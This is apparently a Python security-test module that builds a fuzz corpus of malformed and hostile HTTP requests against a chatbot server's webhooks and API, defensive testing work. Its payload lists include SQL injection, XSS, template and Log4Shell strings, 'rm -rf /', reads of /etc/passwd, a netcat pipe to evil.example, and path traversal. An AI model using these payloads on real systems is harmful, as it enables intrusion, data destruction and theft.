"""The fuzz corpus: more than a thousand bad inputs for the real server, built deterministically.

Each case is one HTTP request and what may come back. `python -m tests.security.corpus` prints
how many cases each kind has.
"""
from __future__ import annotations

import json
import random
from collections import Counter
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

REST_CHANNELS = ("rest", "web", "kiosk")
SEED = 20261128


@dataclass
class Case:
    kind: str                      # what the attack is, for the summary table
    path: str                      # e.g. /webhooks/rest/webhook
    body: bytes = b""
    method: str = "POST"
    headers: Dict[str, str] = field(default_factory=dict)
    expect: str = "<500"           # "<500", "4xx", "2xx", or an exact status like "403"
    sender: Optional[str] = None   # the conversation, when the request carries a valid one

    def accepts(self, status: int) -> bool:
        if status >= 500:
            return False
        if self.expect == "4xx":
            return 400 <= status < 500
        if self.expect == "2xx":
            return 200 <= status < 300
        if self.expect.isdigit():
            return status == int(self.expect)
        return True


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def _message(channel: str, sender: str, text: str, kind: str, expect: str = "2xx") -> Case:
    return Case(kind, f"/webhooks/{channel}/webhook", _json({"sender": sender, "message": text}),
                headers={"Content-Type": "application/json"}, expect=expect, sender=sender)


HUGE = [1001, 1500, 5000, 20000, 63000]
CONTROL = [chr(c) for c in list(range(0, 32)) + [127] + list(range(0x80, 0xA0))]
ODD_UNICODE = [
    "\u200f\u202emy back hurts\u202c", "\u202eesrever ni txet", "\u200b\u200b\u200b", "\ufeffhello",
    "he\u200dllo", "\u2066isolate\u2069", "👨‍👩‍👧‍👦 family", "🇬🇧🇺🇸🇯🇵", "👍🏽👍🏿", "💆‍♀️💆‍♂️ massage please",
    "Z̴̡̧̛̭̦̣̖̙̫̪͎̦̋̒̆̈́̈̄̀̋a̵̧̛̪͚̠̭͉͕̰̲͆l̸̢̖̮̠̭͍̙̣̰̈́͆̈́̀̄͋͘g̴̛̟̫̥̲̞̱̳̟̏͊̓͌͑̅͘ǒ̶̢̨̙͎͔͍͍̙̤͋",
    "e" + "\u0301" * 500, "\U0001F600" * 200, "𝓂𝓎 𝒷𝒶𝒸𝓀 𝒽𝓊𝓇𝓉𝓈", "ｍｙ　ｂａｃｋ　ｈｕｒｔｓ",
    "mу bасk hurts (cyrillic homoglyphs)", "ظهري يؤلمني", "我的背很痛", "मेरी पीठ में दर्द है", "у меня болит спина",
    "\uffff\ufffe", "\U0010FFFF", "\ufdd0\ufdef", "\u0000\u0000\u0000", "\u2028line\u2029para", "\u00ad" * 50,
    "\u0336s\u0336t\u0336r\u0336i\u0336k\u0336e", "ⓜⓨ ⓑⓐⓒⓚ", "ℌ𝔢𝔩𝔩𝔬", "\u3000\u3000", "\u180e\u2060\u2061",
]
INJECTION = [
    "' OR 1=1 --", "\"; DROP TABLE events; --", "1; SELECT * FROM events", "' UNION SELECT sender_id, data FROM events --",
    "admin'--", "'; DELETE FROM events WHERE '1'='1", "\\'; DROP TABLE x; --", "%27%20OR%201%3D1",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)",
    "<svg/onload=alert(1)>", "\"><iframe src=//evil.example>", "<a href=\"javascript:alert(1)\">click</a>",
    "[click](javascript:alert(1))", "**bold** <b>html</b>", "<style>*{display:none}</style>",
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% for x in range(10) %}x{% endfor %}", "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "${jndi:ldap://evil.example/a}", "%s%s%s%s%n", "{0}{1}{sender}",
    "$(rm -rf /)", "`id`", "; cat /etc/passwd", "| nc evil.example 4444", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
    "\n2026-11-28 12:00:00 INFO fake log line", "\r\nSet-Cookie: a=b", "*)(uid=*))(|(uid=*", "<!--#exec cmd=\"ls\"-->",
    "{\"sender\": \"other\", \"message\": \"hi\"}", "!!python/object/apply:os.system ['ls']", "__proto__", "constructor",
    "NaN", "Infinity", "-1", "9" * 400, "null", "undefined", "true", "[]", "{}",
]
FORGED = [
    "/book_session", "/report_emergency", "/describe_problem", "/affirm", "/deny", "/request_human", "/greet",
    '/describe_problem{"condition": "dragon_pox"}', '/describe_problem{"condition": "none"}',
    '/describe_problem{"condition": "fever"}', '/describe_problem{"red_flag": "chest_pain"}',
    '/describe_problem{"body_part": "tail", "goal": "flying"}', '/describe_problem{"audience": "robot"}',
    '/describe_problem{"pressure": "maximum"}', '/describe_problem{"technique": "hammer"}',
    '/describe_problem{"time_available": "forever"}', '/book_session{"condition": "none"}',
    '/describe_problem{"condition": ["fever", "dragon_pox"]}', '/describe_problem{"goal": "relaxation", "role": "negated"}',
    '/describe_problem@1.0{"condition": "fever"}', "/book_session@0.01", '/ask_techniques{"technique": "swedish"}',
    "/restart", "/session_start", "/back", "/nlu_fallback", "/action_listen", "/made_up_intent", "/start",
    '/describe_problem{"condition": 1}', '/describe_problem{"condition": null}', '/describe_problem{"condition": {"a": 1}}',
    '/describe_problem{"condition": "' + "x" * 300 + '"}', '/describe_problem{"made_up_entity": "x"}',
    '/describe_problem{"condition": "fever"', '/describe_problem{broken json}', "/describe_problem}{", "/ /",
    "/book_session /report_emergency", "/book_session\n/restart", '/describe_problem{"pending_question": "forget"}',
    '/affirm{"forget_requested": true}', '/describe_problem{"screened": true}', "/delete_conversation{\"x\": \"y\"}",
    "/" + "a" * 70, "/describe_problem" + "{}" * 100,
]
BAD_JSON = [
    b"{", b"}", b"{{}}", b"{\"sender\": }", b"{\"sender\": \"a\", }", b"{'sender': 'a', 'message': 'hi'}",
    b"{\"sender\": \"a\" \"message\": \"hi\"}", b"{\"sender\": \"a\", \"message\": \"hi\"", b"\"unterminated",
    b"[1, 2,", b"nul", b"tru", b"{\"a\": NaN}", b"{\"sender\": \"a\", \"message\": \"\\x00\"}",
    b"{\"sender\": \"a\", \"message\": \"\\ud800\"}", b"\xef\xbb\xbf{\"sender\": \"a\", \"message\": \"hi\"}",
    b"{\"sender\": \"a\", \"message\": \"hi\"}garbage", b"\x00\x00\x00", b"\xff\xfe\xfd", b"\x80\x81\x82",
    b"<xml><sender>a</sender></xml>", b"sender=a&message=hi", b"--boundary\r\n\r\n", b"\n\n\n", b"\t",
    b"{" * 10000, b"[" * 60000, b"{\"a\":" * 5000 + b"1" + b"}" * 5000, b"\"" + b"\\" * 1001 + b"\"",
]
NOT_OBJECTS = [[], [1, 2], ["sender", "message"], "hi", "", 0, 1, -1, 3.14, 1e308, True, False, None,
               [{"sender": "a", "message": "hi"}], {"": ""}, {"data": {"sender": "a", "message": "hi"}}]
WRONG_SENDERS = [None, 0, 12345, -1, 1.5, True, False, [], ["a"], {}, {"id": "a"}, "", " ", "a b", "a\nb", "a\x00b",
                 "x" * 129, "x" * 10000, "../etc/passwd", "<script>", "\u202eabc", "名前", "a/b", "a?b", "a#b",
                 "'; DROP TABLE events; --", "${jndi:x}", "{{7*7}}"]
WRONG_MESSAGES = [None, 0, 1, -5, 3.5, True, False, [], ["hi"], {}, {"text": "hi"}, [[["deep"]]], 1e400]
CONTENT_TYPES = ["application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml",
                 "text/html", "application/octet-stream", "image/png", "application/javascript", "text/csv",
                 "application/jsonx", "json", "*/*", "application/x-www-form-urlencoded; charset=utf-8"]


def build() -> List[Case]:
    rng = random.Random(SEED)
    cases: List[Case] = []
    counter = iter(range(10 ** 9))

    def sender() -> str:
        return f"fuzz-{next(counter)}"

    for channel in REST_CHANNELS:
        path = f"/webhooks/{channel}/webhook"
        json_header = {"Content-Type": "application/json"}
        cases.append(Case("empty body", path, b"", headers=json_header, expect="4xx"))
        cases.append(Case("empty body, no content type", path, b"", expect="4xx"))
        for raw in BAD_JSON:
            cases.append(Case("invalid or edge-case JSON", path, raw, headers=json_header, expect="<500"))
        for value in NOT_OBJECTS:
            cases.append(Case("JSON that is not an object", path, _json(value), headers=json_header, expect="4xx"))
        for value in WRONG_SENDERS:
            cases.append(Case("wrong sender type or value", path, json.dumps({"sender": value, "message": "hi"},
                                                                              allow_nan=True).encode(),
                              headers=json_header, expect="4xx"))
        for value in WRONG_MESSAGES:
            cases.append(Case("wrong message type", path, json.dumps({"sender": sender(), "message": value}).encode(),
                              headers=json_header, expect="4xx"))
        cases.append(Case("missing message", path, _json({"sender": sender()}), headers=json_header, expect="4xx"))
        cases.append(Case("extra fields (metadata, input_channel)", path,
                          _json({"sender": sender(), "message": "hi", "metadata": {"x": "y" * 1000},
                                 "input_channel": "telegram"}), headers=json_header, expect="2xx"))
        for content_type in CONTENT_TYPES:
            cases.append(Case("wrong content type", path, _json({"sender": sender(), "message": "hi"}),
                              headers={"Content-Type": content_type}, expect="415"))
        for _ in range(12):
            garbage = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 400)))
            cases.append(Case("binary garbage body", path, garbage, headers=json_header, expect="4xx"))
        for size in (70_000, 300_000, 1_500_000):
            cases.append(Case("body over the webhook limit", path,
                              _json({"sender": sender(), "message": "a" * size}), headers=json_header, expect="413"))
        cases.append(Case("body over the server limit", path, b"a" * 3_000_000, headers=json_header, expect="413"))
        for method in ("GET", "PUT", "DELETE", "PATCH"):
            cases.append(Case("wrong method", path, b"", method=method, expect="4xx"))
        cases.append(Case("stream parameter", path + "?stream=true", _json({"sender": sender(), "message": "hi"}),
                          headers=json_header, expect="2xx"))

        for size in HUGE:
            text = ("my back hurts " * (size // 14 + 1))[:size]
            cases.append(_message(channel, sender(), text, "message over the length cap"))
        for char in CONTROL if channel == "rest" else CONTROL[::8]:  # one code path: every character once
            cases.append(_message(channel, sender(), f"my{char}back{char}hurts", "control characters"))
        cases.append(_message(channel, sender(), "".join(CONTROL), "control characters"))
        for text in ("", " ", "\n\n", "\t", "\u3000", "\u200b", "\x00"):
            cases.append(_message(channel, sender(), text, "empty or blank message"))
        for text in ODD_UNICODE:
            cases.append(_message(channel, sender(), text, "odd Unicode"))
        for text in INJECTION:
            cases.append(_message(channel, sender(), text, "injection string"))
            if channel == "rest":  # with entities around it, through the whole advice path
                cases.append(_message(channel, sender(), "my neck is stiff " + text, "injection string"))
        for text in FORGED:
            cases.append(_message(channel, sender(), text, "forged button payload"))
    cases.append(_message("rest", sender(), ("my lower back is stiff " * 50)[:1000], "largest allowed message"))

    cases += _messaging_cases(rng)
    cases += _api_cases()
    return cases




def _messaging_cases(rng: random.Random) -> List[Case]:
    cases: List[Case] = []
    update = {"update_id": 1, "message": {"message_id": 1, "date": 0, "text": "hi", "chat": {"id": 1, "type": "private"},
                                          "from": {"id": 1, "is_bot": False, "first_name": "A"}}}
    for secret in (None, "", "wrong", "' OR 1=1 --", "x" * 300):
        headers = {"Content-Type": "application/json"}
        if secret is not None:
            headers["X-Telegram-Bot-Api-Secret-Token"] = secret
        for body in (_json(update), b"", b"{", _json([]), _json({"update_id": "x"})):
            cases.append(Case("Telegram without the secret token", "/webhooks/telegram/webhook", body,
                              headers=headers, expect="403"))
    form = "From=%2B15550001&To=%2B15550000&Body=hi&MessageSid=SM1&AccountSid=AC1"
    for signature in (None, "", "invalid", "AAAA", "x" * 500):
        headers = {"Content-Type": "application/x-www-form-urlencoded"}
        if signature is not None:
            headers["X-Twilio-Signature"] = signature
        for body in (form.encode(), b"", b"From=&Body=", b"Body=" + b"a" * 5000, b"\xff\xfe"):
            cases.append(Case("Twilio without a valid signature", "/webhooks/twilio/webhook", body,
                              headers=headers, expect="403"))
    for body in (b"{}", b"", _json({"event": {"type": "message", "text": "hi", "user": "U1"}}), b"payload=%7B%7D"):
        cases.append(Case("Slack without a valid signature", "/webhooks/slack/webhook", body,
                          headers={"Content-Type": "application/json", "X-Slack-Signature": "v0=bad",
                                   "X-Slack-Request-Timestamp": "0"}, expect="403"))
    for method in ("GET", "POST"):
        cases.append(Case("Telegram set_webhook from outside", "/webhooks/telegram/set_webhook", b"", method=method,
                          expect="403"))
    for channel in ("web", "kiosk"):
        for body in (b"", b"{", _json({"sender": 1}), _json({"sender": "a b"}), _json([]), b"\x00"):
            cases.append(Case("forget with a bad body", f"/webhooks/{channel}/forget", body, expect="4xx"))
    return cases


API_ROUTES: List[Tuple[str, str]] = [
    ("GET", "/version"), ("GET", "/status"), ("GET", "/domain"),
    ("GET", "/conversations/{id}/tracker"), ("POST", "/conversations/{id}/tracker/events"),
    ("PUT", "/conversations/{id}/tracker/events"), ("GET", "/conversations/{id}/story"),
    ("POST", "/conversations/{id}/execute"), ("POST", "/conversations/{id}/trigger_intent"),
    ("POST", "/conversations/{id}/predict"), ("POST", "/conversations/{id}/messages"),
    ("POST", "/model/train"), ("POST", "/model/test/stories"), ("POST", "/model/test/intents"),
    ("POST", "/model/predict"), ("POST", "/model/parse"), ("PUT", "/model"), ("DELETE", "/model"),
]


def _api_cases() -> List[Case]:
    cases: List[Case] = []
    bodies = [b"", b"{", _json({"text": "hi"}), _json({"event": "restart"}), _json([{"event": "slot"}])]
    for method, route in API_ROUTES:
        for token in ("", "?token=wrong", "?token[]=x"):
            for body in bodies[:3]:
                cases.append(Case("HTTP API without the token", route.format(id="someone") + token, body,
                                  method=method, headers={"Content-Type": "application/json"}, expect="401"))
    for path in ("/conversations/../status", "/conversations/%2e%2e/tracker", "/x" * 500, "/model/parse%00",
                 "/webhooks/rest/../../status", "/webhooks//rest/webhook", "/webhooks/unknown/webhook", "/.env",
                 "/admin", "/webhooks/web/static/../../../deployment.py", "/webhooks/web/static/%2e%2e/channels/web.py"):
        cases.append(Case("odd path", path, b"", method="GET", expect="4xx"))
    return cases


if __name__ == "__main__":
    corpus = build()
    for kind, count in sorted(Counter(case.kind for case in corpus).items()):
        print(f"{count:5d}  {kind}")
    print(f"{len(corpus):5d}  in all")
